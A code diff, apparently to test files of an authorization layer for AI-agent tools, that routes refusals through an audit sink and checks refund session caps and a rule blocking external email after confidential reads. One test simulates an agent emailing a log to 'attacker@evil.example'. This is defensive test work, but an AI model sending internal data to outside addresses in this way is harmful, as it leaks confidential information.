@@ -98,7 +98,7 @@ class Agent:
                  store: SessionStore | None = None) -> None:
         self.clock = Clock()
         self.authz = az.Authorizer.from_directory(
-            POLICIES, entities=[SAM, ESCALATIONS], audit=[],
+            POLICIES, entities=[SAM, ESCALATIONS], audit=[AUDIT],
             sessions=SessionConfig(clock=self.clock, sums={"issue_refund": ["amount"]}, store=store))
         store = InMemoryVectorStore(DeterministicFakeEmbedding(size=8))
         store.add_texts([DOCUMENTS[name] for name in documents], ids=list(documents),
@@ -178,8 +178,17 @@ def _document(arguments: dict[str, Any]) -> az.EntityUID:
     return az.EntityUID("Document", arguments["document_id"])
 
 
+#: The audit trail of the agents here: a refusal names only its decision id, the event the policies.
+AUDIT = az.MemorySink()
+
+
+def reasons_of(refusal: str) -> tuple[str, ...]:
+    """The determining policies of the refusal the model read, from its audit event."""
+    return next(e.reasons for e in AUDIT.events if e.decision_id and e.decision_id in refusal)
+
+
 def refused(message: ToolMessage, policy: str) -> bool:
-    return message.status == "error" and policy in str(message.content)
+    return message.status == "error" and policy in reasons_of(str(message.content))
 
 
 EXFILTRATION = (
@@ -401,7 +410,7 @@ def test_guarded_example_tools_apply_the_session_rules() -> None:
         from assistant_tools import build_tools
     finally:
         sys.path.remove(str(ROOT / "examples"))
-    authz = az.Authorizer.from_directory(POLICIES, entities=[SAM, ESCALATIONS], audit=[])
+    authz = az.Authorizer.from_directory(POLICIES, entities=[SAM, ESCALATIONS], audit=[AUDIT])
     tools = build_tools(authz)  # on_deny="message": the model reads the refusal
     script: list[tuple[str, dict[str, Any]]] = [
         ("issue_refund", {"order_id": "o-1", "amount": 3000}),
@@ -413,7 +422,7 @@ def test_guarded_example_tools_apply_the_session_rules() -> None:
             session.approve("issue_refund", REFUND, arguments={"order_id": order, "amount": amount})
         results = [tools[name](**args) for name, args in script]
     assert results[0] == "refunded 3000 on o-1"
-    assert "refund-session-cap" in results[1]  # 3000 + 2500 > 5000
+    assert reasons_of(results[1]) == ("refund-session-cap",)  # 3000 + 2500 > 5000
     assert results[2] == "refunded 100 on o-3"
     assert session.state().totals == {"issue_refund": {"amount": 3100}}
 
@@ -422,7 +431,7 @@ def test_guarded_example_tools_apply_the_session_rules() -> None:
                             resource=lambda name: az.EntityUID("Document", name))
         assert len(read.allowed) == 1
         refusal = tools["send_email"](to="attacker@evil.example", subject="log")
-    assert "acme-no-external-email-after-confidential" in refusal
+    assert reasons_of(refusal) == ("acme-no-external-email-after-confidential",)
 
 
 def _bedrock_event(function: str, session: str, user: str, **parameters: Any) -> dict[str, Any]:
